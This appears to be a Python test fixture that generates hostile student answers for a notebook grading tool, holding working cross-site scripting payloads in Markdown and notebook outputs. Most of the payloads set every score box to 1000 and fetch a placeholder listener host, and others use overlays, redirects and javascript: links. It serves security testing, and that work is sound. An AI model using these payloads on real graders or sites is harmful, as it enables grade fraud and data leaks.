"""What a hostile student hands in to act in the browser of a person who grades: code that shows it,
and answers that hold it.

Every piece sets `window.ran`, calls a listener, or types the maximum into each score box.
"""

from __future__ import annotations

TYPES_MARKS = (
    "window.ran = (window.ran || 0) + 1; setInterval(function () {"
    " $('.score').each(function () { $(this).val(1000).trigger('change'); });"
    " fetch('LISTENER/marks', {mode: 'no-cors'}); }, 1500);"
)
ONE_LINE = TYPES_MARKS.replace('"', "&quot;")

# What an answer may hold, in Markdown. LISTENER is where nobody may call.
PIECES = {
    "script": f"<script>{TYPES_MARKS}</script>",
    "image that fails": f'<img src="nowhere.png" onerror="{ONE_LINE}">',
    "drawing": f'<svg onload="{ONE_LINE}"><script>{TYPES_MARKS}</script></svg>',
    "image from elsewhere": "![](LISTENER/markdown-image.png) <img src='LISTENER/image.png'>",
    "frame": (
        '<iframe srcdoc="<script>parent.ran = 1; '
        "parent.fetch('LISTENER/frame')</script>\"></iframe><iframe "
        'src="LISTENER/frame"></iframe>'
    ),
    "focus": (
        f'<input autofocus onfocus="{ONE_LINE}"><details open '
        f'ontoggle="{ONE_LINE}"><summary>s</summary></details>'
    ),
    "media": (
        f'<video src="x" onerror="{ONE_LINE}"></video><audio src="LISTENER/audio" autoplay></audio>'
    ),
    "style": (
        "<style>@import url(LISTENER/style); body { background: url(LISTENER/background) } .score "
        "{ display: none }</style>"
    ),
    "page in another place": (
        '<meta http-equiv="refresh" content="2; url=LISTENER/refresh"><base '
        'href="LISTENER/base/"><link rel="stylesheet" href="LISTENER/link">'
    ),
    "cover": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:url(LISTENER/cover)">Nothing to see.</div>',
    "form": (
        '<form id="words" action="LISTENER/form"><input name="submission_id" class="score" '
        'value="1000"></form>'
    ),
    "links": (
        "[press](javascript:window.ran=1) [here][bad] <javascript:window.ran=1> "
        "[there](&#106;avascript:window.ran=1)\n\n[bad]: javascript:window.ran=1\n"
    ),
    "way out": "</div></div></div></div></div><div class='nbgrader_cell'>",
    "diagram": f'```mermaid\n<img src="nowhere.png" onerror="{ONE_LINE}">\n```\n',
    "settings": '<img src="/formgrader?path=/tmp/elsewhere">',
    "heading": "# words\n\n## double_tests\n",
}


def markdown(listener: str) -> str:
    """An honest answer with all of it."""
    return ("Because it is so.\n\n" + "\n\n".join(PIECES.values()) + "\n\nThat is all.").replace(
        "LISTENER", listener
    )


def code(listener: str) -> str:
    """A right answer that shows all of it, in every type of output."""
    pages = {name: text.replace("LISTENER", listener) for name, text in PIECES.items()}
    script = TYPES_MARKS.replace("LISTENER", listener)
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg" '
        f'onload="{ONE_LINE}"><script>{script}</script><circle r="3" /></svg>'
    ).replace("LISTENER", listener)
    shown = [
        *({"text/html": page, "text/plain": name} for name, page in pages.items()),
        {"text/markdown": "\n\n".join(pages.values())},
        {"application/javascript": script},
        {"image/svg+xml": drawing},
        {
            "text/latex": (
                f'$\\href{{javascript:window.ran=1}}{{x}}$ <img src=x onerror="{ONE_LINE}">'
            )
        },
        {
            "application/vnd.jupyter.widget-view+json": {"model_id": "1", "version_major": 2},
            "application/x-own": "x",
        },
    ]
    handler = "1 onerror=" + script.replace(" ", "/**/")
    return (
        "def double(x):\n    return x + x\n\n\nfrom IPython.display import display\n"
        f"for bundle in {shown!r}:\n    display(bundle, raw=True)\n"
        f"display({{'image/png': 'iVBORw0KGgo='}}, raw=True, "
        f"metadata={ {'image/png': {'width': handler}}!r})\n"
        "display({'text/html': '<script>window.ran=1</script>'}, raw=True, metadata={'text/html': "
        "{'isolated': True}})\n"
        "print('<script>window.ran=1</script>', '\\x1b[38m')\n"
    )
